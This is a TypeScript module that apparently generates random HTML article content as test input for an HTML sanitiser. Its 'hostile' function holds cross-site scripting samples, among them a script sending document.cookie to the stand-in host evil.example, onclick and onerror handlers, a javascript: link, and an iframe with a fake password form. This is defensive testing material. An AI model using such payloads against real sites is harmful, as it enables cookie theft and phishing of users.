import type { Language } from './languages.ts';
import type { Random } from './random.ts';
import { pooledSentence } from './sentence-pool.ts';
import { drawWords, title } from './text.ts';

/** Makes one block of an article's HTML. */
export type Block = (language: Language, random: Random) => string;

export const paragraph: Block = (language, random) =>
  `<p>${sentences(language, random, random.between(2, 7))}</p>`;

export const heading: Block = (language, random) => {
  const level = random.chance(0.7) ? 'h2' : 'h3';
  return `<${level} id="section-${random.below(1000)}">${escaped(title(language, random))}</${level}>`;
};

export const list: Block = (language, random) => {
  const element = random.chance(0.7) ? 'ul' : 'ol';
  const items = repeated(random.between(3, 6), () => `<li>${sentences(language, random, 1)}</li>`);
  return `<${element}>\n${items.join('\n')}\n</${element}>`;
};

export const quote: Block = (language, random) =>
  `<blockquote><p>${sentences(language, random, random.between(1, 3))}</p></blockquote>`;

export const code: Block = (_language, random) => {
  const [name, lines] = random.pick(codeSamples);
  const text = repeated(random.between(4, 14), () =>
    random.pick(lines).replace(/#/gu, () => String(random.below(5000))),
  );
  return `<pre><code class="language-${name}">${escaped(text.join('\n'))}</code></pre>`;
};

export const table: Block = (language, random) => {
  const columns = random.between(2, 5);
  const row = (cell: string) =>
    `<tr>${repeated(columns, () => `<${cell}>${escaped(drawWords(language, random, 2).join(' '))}</${cell}>`).join('')}</tr>`;
  const rows = repeated(random.between(2, 8), () => row('td'));
  return `<table><thead>${row('th')}</thead><tbody>\n${rows.join('\n')}\n</tbody></table>`;
};

export const image: Block = (language, random) =>
  `<p><img src="/media/${random.between(2011, 2026)}/${random.below(100_000)}.jpg" alt="${attribute(language, random)}" ` +
  `width="${random.between(320, 1920)}" height="${random.between(200, 1080)}" loading="lazy"></p>`;

export const figure: Block = (language, random) =>
  `<figure><img src="https://images.example.com/${random.below(100_000)}.webp" alt="${attribute(language, random)}">` +
  `<figcaption>${sentences(language, random, 1)}</figcaption></figure>`;

export const video: Block = (_language, random) => {
  const id = random.below(1e9);
  const source = random.chance(0.6)
    ? `https://www.youtube-nocookie.com/embed/${id.toString(36).padStart(11, 'a')}`
    : `https://player.vimeo.com/video/${id}`;
  return `<iframe src="${source}" width="560" height="315" title="Video" allowfullscreen></iframe>`;
};

/** HTML that a sanitiser must remove, mixed with HTML that it must keep. */
export const hostile: Block = (language, random) => {
  const text = sentences(language, random, 1);
  switch (random.below(6)) {
    case 0:
      return `<script>document.location = "https://evil.example/?" + document.cookie;</script>\n<p>${text}</p>`;
    case 1:
      return `<p onclick="alert(${random.below(100)})">${text}</p>`;
    case 2:
      return `<p><a href="javascript:alert(1)">${text}</a></p>`;
    case 3:
      return `<div style="position:fixed;inset:0;z-index:9999"><p>${text}</p></div>`;
    case 4:
      return `<p>${text}<img src=x onerror=alert(1)></p>`;
    default:
      return `<iframe src="https://evil.example/frame"></iframe>\n<form action="/login"><input name="password"></form>`;
  }
};

function sentences(language: Language, random: Random, count: number): string {
  return repeated(count, () => pooledSentence(language, random)).join(language.space);
}

function attribute(language: Language, random: Random): string {
  return escaped(drawWords(language, random, 4).join(language.space));
}

function repeated(count: number, make: () => string): string[] {
  return Array.from({ length: count }, make);
}

function escaped(text: string): string {
  return text.replace(/&/gu, '&amp;').replace(/</gu, '&lt;').replace(/>/gu, '&gt;').replace(/"/gu, '&quot;');
}

/** Lines of code by language; # is replaced by a number. */
const codeSamples = Object.entries({
  ts: `const page# = await fetch(\`/posts?page=#&per_page=#\`);
if (page.total > # && items.length < #) return undefined;
export function step#<T>(items: readonly T[]): T | undefined {
  for (const item of items.slice(#)) queue.push(item);
  return items.find((item) => item.id === #);
}
// Wait for # ms, then try again.`,
  python: `def step_#(items, limit=#):
    """Give at most # items."""
    return [item for item in items if item["id"] < #][:#]
with open("data-#.csv", encoding="utf-8") as source:
    total = sum(int(line) for line in source) & #
print(f"{total:,} of {len(items)}")`,
  bash: `curl -sS "https://api.example/items?page=#" | jq ".items[#]"
for n in $(seq 1 #); do echo "$n" >> out-#.log; done
grep -c "error #" server.log && exit #
tar -czf backup-#.tar.gz data/ 2> /dev/null
# Runs # times an hour.`,
  sql: `SELECT id, title FROM posts WHERE views > # ORDER BY views DESC LIMIT #;
UPDATE posts SET views = views + # WHERE id = #;
CREATE INDEX by_size_# ON files (size) WHERE size <> #;
DELETE FROM log WHERE time < # AND level IN (#, #);`,
  html: `<section id="part-#">
  <p class="note">&copy; # &mdash; all rights</p>
  <img src="/media/#.png" alt="Chart #">
</section>`,
}).map(([name, text]) => [name, text.split('\n')] as const);
